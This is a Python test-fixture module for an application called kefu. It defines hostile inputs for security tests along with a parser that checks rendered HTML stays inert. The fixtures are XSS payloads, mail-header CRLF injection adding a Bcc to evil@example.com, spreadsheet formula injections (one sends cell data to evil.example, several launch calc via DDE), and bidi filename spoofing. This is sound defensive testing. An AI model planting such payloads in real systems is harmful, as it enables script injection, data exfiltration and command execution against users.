"""One set of hostile texts, fed to every sink of user-controlled text (issue #25), and the
checks that a rendering of them stayed inert.

Each fixture has a short name (the test ids). Anything that would run in a browser sets
``window.__xss`` (the browser tests look for it) and carries the marker ``__xss``, so a parser
can tell a fixture's element or attribute from kefu's own. Where the sinks are:
docs/security.md, section "Sinks".
"""

from __future__ import annotations

import base64
from collections.abc import Iterable
from dataclasses import dataclass
from html.parser import HTMLParser

RUNS = "window.__xss=1"
MARKER = "__xss"


def _word(text: str) -> str:
    """``text`` as an RFC 2047 encoded-word (UTF-8, base64), as a hostile mail header carries it."""
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


@dataclass(frozen=True)
class Hostile:
    name: str
    text: str

    @property
    def has_nul(self) -> bool:
        return "\x00" in self.text


FIXTURES: tuple[Hostile, ...] = (
    Hostile("script", f"<script>{RUNS}</script>"),
    Hostile("img_onerror", f'<img src=x onerror="{RUNS}">'),
    Hostile("svg_onload", f'"><svg onload="{RUNS}">'),
    Hostile("md_javascript_link", f"[点我领券](javascript:{RUNS})"),
    Hostile(
        "md_data_link",
        "[看图](data:text/html;base64,"
        + base64.b64encode(f"<script>{RUNS}</script>".encode()).decode()
        + ")",
    ),
    Hostile("bare_javascript_url", f"javascript:{RUNS}//"),
    Hostile("bare_data_url", f"data:text/html,<script>{RUNS}</script>"),
    Hostile("encoded_word_crlf", _word("退款\r\nBcc: evil@example.com")),
    Hostile("encoded_word_script", _word(f"<script>{RUNS}</script>")),
    Hostile("crlf_bcc", "退款\r\nBcc: evil@example.com"),
    Hostile("formula_hyperlink", '=HYPERLINK("http://evil.example/?d="&A1,"点我")'),
    Hostile("formula_cmd", "=cmd|' /C calc'!A0"),
    Hostile("formula_plus", "+1+cmd|' /C calc'!A0"),
    Hostile("formula_minus", "-2+3+cmd|' /C calc'!A0"),
    Hostile("formula_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Hostile("formula_tab", "\t=1+1"),
    Hostile("formula_cr", "\r=1+1"),
    Hostile("rtl_override", "发票\u202egpj.exe"),
    Hostile(
        "bidi_controls", "\u2066甲\u2069\u2067乙\u2069\u2068丙\u2069\u202a\u202b\u202c\u202d\u200f"
    ),
    Hostile("nul", "前\x00后"),
    Hostile("very_long", "很长的投诉" * 1500 + f"<script>{RUNS}</script>"),
    Hostile("chinese_emoji", f"您好😀退款🎉<b>加粗</b>&amp;{RUNS}👍🏽"),
)
BY_NAME = {f.name: f for f in FIXTURES}
NAMES = tuple(f.name for f in FIXTURES)
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def fitting(limit: int, *, nul: bool = False) -> tuple[Hostile, ...]:
    """The fixtures a field of at most ``limit`` characters takes (NUL only if ``nul``): the others
    are refused with a 4xx (tests/security/test_api_json.py checks that)."""
    return tuple(f for f in FIXTURES if len(f.text) <= limit and (nul or not f.has_nul))


def folded(text: str) -> str:
    """What a one-line field keeps of a text: line breaks and runs of white space as one space
    (how kefu tidies a subject)."""
    return " ".join(text.split())


# --- HTML: nothing of a fixture is an element or an attribute ------------------------------


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self._script = ""  # "code", or "json" for a data block kefu's scripts read

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        kind = dict(attrs).get("type") or ""
        self._script = ("json" if kind == "application/json" else "code") if tag == "script" else ""
        for name, value in attrs:
            text = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>: an event-handler attribute")
            compact = "".join(c for c in text if c > " ").lower()
            if name in _URL_ATTRIBUTES and compact.startswith(
                ("javascript:", "data:", "vbscript:")
            ):
                self.problems.append(f"<{tag} {name}={text[:40]!r}>: a script or data URL")
            if MARKER in text and name not in _DATA_ATTRIBUTES and not name.startswith("data-"):
                self.problems.append(f"<{tag} {name}={text[:40]!r}>: the payload in an attribute")
        if tag in ("svg", "iframe", "object", "embed") and any(
            MARKER in (v or "") for _, v in attrs
        ):
            self.problems.append(f"<{tag}> of a fixture")

    def handle_endtag(self, tag: str) -> None:
        self._script = ""

    def handle_data(self, data: str) -> None:
        if self._script == "code" and MARKER in data:
            self.problems.append(f"a <script> running {data[:60]!r}")
        elif self._script == "json" and "<" in data:
            self.problems.append(f"a JSON block with markup unescaped {data[:60]!r}")
        elif not self._script:
            self.text.append(data)


# Attributes a browser loads or follows; and those that only carry data (a form's value, a title
# shown as text; data-* attributes too, which kefu's scripts read as text or JSON).
_URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc", "background"}
)
_DATA_ATTRIBUTES = frozenset({"value", "title", "alt", "placeholder", "aria-label", "content"})


def html_problems(html: str) -> list[str]:
    """What in ``html`` is a fixture's markup rather than text: a script with the payload, an
    on* attribute, a javascript:/data: URL, the payload inside an attribute that is not data.
    kefu's pages carry no inline handler at all (the CSP forbids them), so any on* is one."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.problems


def visible_text(html: str) -> str:
    """The text of ``html`` as a browser shows it (entities decoded, no scripts)."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return "".join(collector.text)


def assert_inert_html(html: str, where: str) -> None:
    problems = html_problems(html)
    assert not problems, f"{where}: {problems}"


def joined(fixtures: Iterable[Hostile], sep: str = " ¦ ") -> str:
    """Several fixtures in one text, for a page that can show them all at once."""
    return sep.join(f.text for f in fixtures)
